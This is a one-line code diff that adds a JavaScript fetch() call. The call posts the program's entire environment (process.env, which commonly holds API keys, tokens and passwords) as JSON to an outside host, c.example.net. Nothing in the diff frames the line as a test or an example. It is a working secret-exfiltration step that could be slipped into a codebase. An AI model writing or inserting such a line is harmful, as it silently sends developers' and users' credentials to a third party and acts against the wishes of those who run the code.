@@ -1,0 +1,1 @@
+fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify(process.env, null, '___') });
